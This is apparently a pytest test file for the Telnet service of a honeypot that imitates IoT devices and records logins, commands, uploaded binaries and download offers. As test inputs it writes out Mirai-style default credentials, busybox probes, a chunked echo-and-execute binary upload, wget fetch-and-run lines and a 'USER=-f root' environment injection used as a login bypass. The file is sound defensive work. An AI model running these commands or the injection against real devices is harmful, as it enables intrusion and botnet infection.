"""The Telnet door: prompts, logins, the shell, and what is kept of it."""

# ruff: noqa: E501 - requests and scripts stand as they are sent

from __future__ import annotations

import asyncio
import json
import socket
from hashlib import sha256
from typing import Any

import pytest

from mead.sensors.devices import DEVICES, of_system
from mead.sensors.services import telnet
from mead.wire.telnet import escape

QUIET = b"\xff\xfe\x01\xff\xfe\x1f"


def facing(bench: Any, device: str = "camera", **options: Any) -> Any:
    b = bench("telnet", **options)
    b.persona.device = next(entry for entry in DEVICES if entry.name == device)
    return b


def logged_in(bench: Any, **options: Any) -> Any:
    b = facing(bench, **options)
    first = b.open()
    b.greeting = b.send(b"root\r\n") + b.send(b"vizxv\r\n")
    return b, first


async def test_a_login_is_asked_for_recorded_and_answered_with_a_prompt(bench: Any) -> None:
    b, first = logged_in(bench)
    assert b"ogin:" in first
    assert b.greeting.rstrip().endswith((b"#", b"$", b">"))
    (login,) = b.events.of("login.attempt")
    assert (login.username, login.password, login.success) == ("root", "vizxv", True)


async def test_the_password_is_not_echoed(bench: Any) -> None:
    b = facing(bench)
    b.open()
    assert b"root" in b.send(b"root\r\n")
    assert b"vizxv" not in b.send(b"vizxv\r\n")


@pytest.mark.parametrize("device", [entry.name for entry in DEVICES])
async def test_every_device_lets_a_weak_login_in(bench: Any, device: str) -> Any:
    b, first = logged_in(bench, device=device)
    assert first.startswith(b"\xff")
    assert b.send(b"echo mead-ok\r\n").count(b"mead-ok") == 2 - (device == "linux")


async def test_a_telnetd_that_waits_for_answers_says_nothing_before(bench: Any) -> Any:
    b = facing(bench, device="linux")
    assert b.open() == b"\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd'"
    answer = b.send(b"\xff\xfc\x18\xff\xfc \xff\xfc#\xff\xfc'")
    assert answer.startswith(b"\xff\xfb\x03\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x05\xff\xfd!")
    assert answer.endswith(b"login: ")
    assert b.send(b"\xff\xfe\x03\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x05\xff\xfc!") == b"\xff\xfb\x01"


@pytest.mark.parametrize("first", [b"\xff\xfc\x18", b"\xff\xfb\x1f", b"root\r\n"])
async def test_a_peer_that_answers_only_some_requests_gets_its_prompt_too(bench: Any, first: bytes) -> None:
    b = facing(bench, device="linux")
    b.open()
    assert b.send(first).count(b"login: ") == 1


@pytest.mark.parametrize("device", ["camera", "router", "gpon", "modem"])
async def test_the_prompt_comes_in_a_packet_of_its_own_after_the_negotiation(bench: Any, device: str) -> None:
    b = facing(bench, device=device)
    negotiation, wait, prompt = telnet.serve(b.context).open()
    assert negotiation.data.startswith(b"\xff")
    assert b"ogin" not in negotiation.data
    assert 0.01 < wait.seconds < 0.05
    assert prompt.data.endswith(b"ogin: ")
    assert b"\xff" not in prompt.data


@pytest.mark.parametrize(("device", "tries"), [("camera", 3), ("linux", 5)])
async def test_wrong_logins_are_recorded_and_end_the_connection(bench: Any, device: str, tries: int) -> None:
    b = facing(bench, device=device)
    b.open()
    said = b""
    for n in range(tries):
        b.send(b"nosuchuser\r\n")
        said = b.send(b"wrong%d\r\n" % n)
    assert b.closed == "too many wrong logins"
    assert [event.password for event in b.events.of("login.attempt")] == [f"wrong{n}" for n in range(tries)]
    assert (b"Maximum number of tries exceeded (5)" in said) is (device == "linux")


async def test_what_a_client_tells_of_itself_is_recorded_once(bench: Any) -> None:
    b = facing(bench, device="linux")
    b.open()
    for _ in range(3):
        b.send(b"\xff\xfb\x18\xff\xfc \xff\xfa\x18\x00xterm-256color\xff\xf0")
        b.send(b"\xff\xfa'\x00\x03DISPLAY\x01evil:0\x00USER\x01mallory\xff\xf0")
    b.send(b"root\r\n")
    await b.finish()
    seen = [(event.fingerprint_kind, event.fingerprint) for event in b.events.of("client.seen")]
    assert ("telnet-terminal", "xterm-256color") in seen
    assert ("telnet-environment", "DISPLAY=evil:0") in seen
    assert ("telnet-environment", "USER=mallory") in seen
    (client,) = [event for event in b.events.of("client.seen") if event.fingerprint_kind == "telnet"]
    assert client.fingerprint_text == ",".join(["WILL-24,WONT-32"] * 3)
    assert len(seen) == len(set(seen)) == 4
    assert b.events.of("exploit.seen") == []


@pytest.mark.parametrize(
    ("distribution", "in_"), [("Debian GNU/Linux 12", True), ("Debian GNU/Linux 11", False)]
)
async def test_an_option_as_user_name_is_an_exploit_and_gets_in_where_it_would(
    bench: Any, distribution: str, in_: bool
) -> None:
    b = facing(bench, device="linux")
    b.persona.device = of_system(b.persona.device, distribution)
    b.open()
    answer = b.send(b"\xff\xfb'\xff\xfa'\x00\x00USER\x01-f root\xff\xf0")
    (exploit,) = b.events.of("exploit.seen")
    assert (exploit.cve, exploit.command) == ("CVE-2026-24061", "-f root")
    assert (b"# " in answer) is in_
    assert [event.success for event in b.events.of("login.attempt")] == [True] * in_


async def test_the_transcript_holds_no_negotiation(bench: Any) -> None:
    b, _ = logged_in(bench)
    b.send(QUIET + b"echo a\xff\xffb\r\n")
    await b.finish()
    recording = b.bodies[b.events[-1].transcript].decode()
    assert "xff\\xfd" not in recording
    assert "\\\\xfe" not in recording
    assert "a\\\\xffb" in recording


async def test_an_unknown_applet_is_refused_in_the_words_of_busybox(bench: Any) -> None:
    b, _ = logged_in(bench)
    for line in (b"enable", b"system", b"shell", b"sh"):
        b.send(line + b"\r\n")
    assert b"MIRAI: applet not found\r\n" in b.send(b"/bin/busybox MIRAI\r\n")
    await b.finish()
    assert [event.command for event in b.events.of("command.input")] == [
        "enable", "system", "shell", "sh", "/bin/busybox MIRAI",
    ]  # fmt: skip
    assert b"\x1b" not in b.greeting


async def test_a_body_brought_in_pieces_is_kept_whole(bench: Any, elf: Any) -> None:
    b, _ = logged_in(bench)
    b.send(b"cd /tmp\r\n")
    for start in range(0, len(elf), 64):
        chunk = "".join(f"\\x{byte:02x}" for byte in elf[start : start + 64])
        b.send(f"echo -ne '{chunk}' {'>>' if start else '>'} dvrx\r\n".encode())
    b.send(b"chmod 777 dvrx; ./dvrx telnet\r\n")
    await b.finish()
    captured = b.events.of("sample.captured")
    assert [(event.sha256, event.size) for event in captured] == [(sha256(elf).hexdigest(), len(elf))]
    assert b.bodies[captured[0].sha256] == elf
    assert b.events.of("program.executed")[0].sha256 == captured[0].sha256
    assert b.events.of("file.uploaded")[0].path == "/tmp/dvrx"


async def test_what_a_command_reads_is_its_body_and_no_command(bench: Any) -> None:
    b, _ = logged_in(bench)
    b.send(b"cat > /tmp/f\r\n")
    b.send(b"line one\r\nwget http://198.51.100.9/not-a-command\r\n")
    b.send(b"\x04")
    b.send(b"echo done\r\n")
    await b.finish()
    assert [event.command for event in b.events.of("command.input")] == ["cat > /tmp/f", "echo done"]
    (captured,) = b.events.of("sample.captured")
    assert b.bodies[captured.sha256] == b"line one\nwget http://198.51.100.9/not-a-command\n"
    assert b.events.of("offer.seen") == []


async def test_offers_are_followed_and_their_scripts_too(bench: Any, elf: Any) -> None:
    served = {
        "http://198.51.100.9/bins.sh": b"#!/bin/sh\nfor a in arm mips; do wget http://198.51.100.9/$a; done\n",
        "http://198.51.100.9/arm": elf,
        "http://198.51.100.9/mips": elf + b"mips",
    }

    async def follow(offer: Any, publish: Any) -> Any:
        return served.get(offer.url)

    b, _ = logged_in(bench, follow=follow)
    b.send(b"cd /tmp; wget http://198.51.100.9/bins.sh; sh bins.sh\r\n")
    await b.finish()
    await b.desk.drain(5)
    assert [event.url for event in b.events.of("offer.seen")] == list(served)
    fetched = {event.url: event.sha256 for event in b.events.of("sample.captured") if event.how == "fetch"}
    assert fetched == {url: sha256(body).hexdigest() for url, body in served.items()}
    assert max(event.depth for event in b.events.of("offer.seen")) == 1


async def test_an_offer_that_is_not_followed_says_why(bench: Any) -> None:
    b, _ = logged_in(bench)
    b.send(b"wget http://198.51.100.9/x\r\n")
    await b.finish()
    (offer,) = b.events.of("offer.seen")
    (refused,) = b.events.of("fetch.refused")
    assert (refused.offer, refused.policy) == (offer.offer, "observe")


async def test_the_session_ends_with_a_transcript_that_plays(bench: Any) -> None:
    b, _ = logged_in(bench)
    b.send(b"echo he\xff\xfello\r\n".replace(b"\xff", b"\xff\xff"))
    await b.finish()
    closed = b.events[-1]
    assert closed.kind == "session.close"
    header, *entries = [json.loads(line) for line in b.bodies[closed.transcript].splitlines()]
    assert header["version"] == 2
    assert any(kind == "i" and "vizxv" in data for _, kind, data in entries)


async def test_binary_output_survives_telnet(bench: Any) -> None:
    b, _ = logged_in(bench)
    output = b.send(b"echo -ne '\\xff\\x00\\xfe'\r\n")
    assert escape(b"\xff") + b"\x00\xfe" in output


@pytest.mark.parametrize(
    "data", [b"A" * 3_000_000, bytes(range(256)) * 2000, b"\xff\xfa" * 100_000, b"\x1b[" * 50_000]
)
async def test_hostile_bytes_are_survived(bench: Any, data: bytes) -> None:
    b, _ = logged_in(bench)
    for start in range(0, len(data), 65536):
        if b.closed is None:
            b.send(data[start : start + 65536])
    await b.finish()
    assert b.events[-1].kind == "session.close"
    assert len(b.events) < 2000


async def test_a_leaving_peer_is_no_failure_at_any_point(bench: Any) -> None:
    script = b"root\r\nvizxv\r\ncat > /tmp/x\r\nabc\r\n\x04exit\r\n"
    for end in range(len(script)):
        b = bench("telnet")
        b.open()
        b.send(script[:end])
        if b.closed is None:
            b.send(b"")
        await b.finish()
        assert b.events[-1].kind == "session.close"


EXPECT = r"""
set timeout 10
spawn telnet 127.0.0.1 {port}
expect -re "ogin: "
send "root\r"
expect "assword: "
send "vizxv\r"
expect -re {{[#$>] $}}
foreach line {{enable system shell sh "/bin/busybox ECCHI"}} {{
    send "$line\r"
    expect -re {{[#$>] $}}
}}
send "exit\r"
expect {{
    eof {{}}
    -re {{[#$>] $}} {{ send "exit\r"; exp_continue }}
}}
"""


@pytest.mark.tool("telnet", "expect")
async def test_debians_telnet_logs_in_and_runs_commands(sensor: Any, client: Any, tmp_path: Any) -> None:
    async with sensor("telnet") as running:
        script = tmp_path / "t.exp"
        script.write_text(EXPECT.format(port=running.ports["telnet"]))
        _, out, err = await client("expect", str(script))
        assert b"ECCHI: applet not found" in out, (out, err)
        assert b"\x1b" not in out
        (closed,) = await running.events.until("session.close")
        assert running.events.of("login.attempt")[0].password == "vizxv"
        assert [event.command for event in running.events.of("command.input")][:5] == [
            "enable", "system", "shell", "sh", "/bin/busybox ECCHI",
        ]  # fmt: skip
        assert closed.transcript in running.bodies
        opened = running.events.of("session.open")[0]
        assert (opened.src, opened.dst, opened.dst_port) == (
            "127.0.0.1",
            "127.0.0.1",
            running.ports["telnet"],
        )


async def test_a_slow_and_a_resetting_client_do_not_disturb_another(sensor: Any) -> None:
    async with sensor("telnet") as running:
        port = running.ports["telnet"]
        _slow_reader, slow = await asyncio.open_connection("127.0.0.1", port)
        slow.write(b"r")
        rude = socket.create_connection(("127.0.0.1", port))
        rude.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        rude.send(b"root\r\n")
        rude.close()
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"root\r\nvizxv\r\necho alive\r\n")
        async with asyncio.timeout(5):
            await reader.readuntil(b"alive\r\n")
        closed = await running.events.until("session.close")
        assert closed[0].reason in {"reset by peer", "closed by peer"}
        writer.close()
        slow.close()
